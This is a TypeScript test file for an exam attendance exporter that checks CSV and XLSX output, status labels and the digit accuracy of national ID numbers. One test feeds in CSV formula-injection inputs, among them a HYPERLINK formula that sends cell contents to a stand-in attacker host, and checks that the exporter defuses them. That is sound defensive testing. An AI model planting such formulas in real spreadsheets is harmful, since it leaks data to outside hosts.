import { parse } from 'csv-parse/sync';
import readXlsxFile from 'read-excel-file/node';
import { describe, expect, it } from 'vitest';
import type { ParticipantRow } from '../roster/store.js';
import type { SessionRecord } from '../sessions/store.js';
import { EXPORT_HEADER, exportCsv, exportXlsx } from './export.js';

const session = {
  id: '20261123-1',
  name: 'SKD Sesi 1',
  kind: 'SKD',
  startsAt: '2026-11-23T00:00:00.000Z',
  timeZone: 'Asia/Makassar',
} as SessionRecord;

const row = (number: string, nik: string, extra: Partial<ParticipantRow> = {}): ParticipantRow => ({
  number,
  nik,
  name: 'Siti Aisyah, S.Pd',
  jabatan: 'Guru',
  room: 'R1',
  seat: '1',
  disability: '',
  blind: 0,
  birth_date: '',
  checkin_at: null,
  checkin_by: null,
  override_by: null,
  override_reason: null,
  pin_issued_at: null,
  pin_issued_by: null,
  pin_count: 0,
  refusals: 0,
  ...extra,
});

const rows = [
  row('24300110120000001', '6310015503920001', { checkin_at: '2026-11-22T23:12:00.000Z', checkin_by: 'meja1' }),
  row('24300110120000002', '9471015503920002', { refusals: 1 }),
  row('24300110120000003', '6310015503920003'),
];

describe('attendance export', () => {
  it('neutralises every CSV cell that a spreadsheet would run as a formula (OWASP)', () => {
    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', '+62 811', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];
    const csv = exportCsv(
      session,
      hostile.map((name, i) => row(`2430011012000000${i}`, '6310015503920001', { name, jabatan: name })),
      true,
    );
    const back = parse(csv, { bom: true }) as string[][];
    expect(back.slice(1).map((r) => r[3])).toEqual(hostile.map((h) => `'${h}`));
    expect(back.slice(1).map((r) => r[4])).toEqual(hostile.map((h) => `'${h}`));
    // An ordinary name is untouched.
    expect((parse(exportCsv(session, [row('1', '6310015503920001')], true), { bom: true }) as string[][])[1]![3]).toBe('Siti Aisyah, S.Pd');
  });

  it('writes CSV with a BOM that reads back with every digit and the statuses', () => {
    const csv = exportCsv(session, rows, true);
    expect(csv.startsWith('\uFEFFNo,Nomor Peserta,NIK,')).toBe(true);
    const back = parse(csv, { bom: true }) as string[][];
    expect(back[0]).toEqual([...EXPORT_HEADER]);
    expect(back.slice(1).map((r) => [r[1], r[2], r[3], r[8], r[9], r[10]])).toEqual([
      ['24300110120000001', '6310015503920001', 'Siti Aisyah, S.Pd', 'Ya', 'Hadir', '23/11/2026 07:12 WITA'],
      ['24300110120000002', '9471015503920002', 'Siti Aisyah, S.Pd', 'Tidak', 'Ditolak', ''],
      ['24300110120000003', '6310015503920003', 'Siti Aisyah, S.Pd', 'Tidak', 'Tidak hadir', ''],
    ]);
  });

  it('says "Belum hadir", never "Tidak hadir", while check-in is still open', async () => {
    const open = parse(exportCsv(session, rows, false), { bom: true }) as string[][];
    expect(open.slice(1).map((r) => r[9])).toEqual(['Hadir', 'Ditolak', 'Belum hadir']);
    const [sheet] = await readXlsxFile(await exportXlsx(session, rows, false));
    expect(sheet!.data[3]![9]).toBe('Belum hadir');
  });

  it('writes XLSX whose NIK cells are text, so a NIK above 2^53 survives', async () => {
    const xlsx = await exportXlsx(session, rows, true);
    const [sheet] = await readXlsxFile(xlsx);
    expect(sheet!.sheet).toBe('Kehadiran');
    expect(sheet!.data[2]![2]).toBe('9471015503920002');
    expect(sheet!.data[1]!.slice(8, 10)).toEqual(['Ya', 'Hadir']);
  });
});
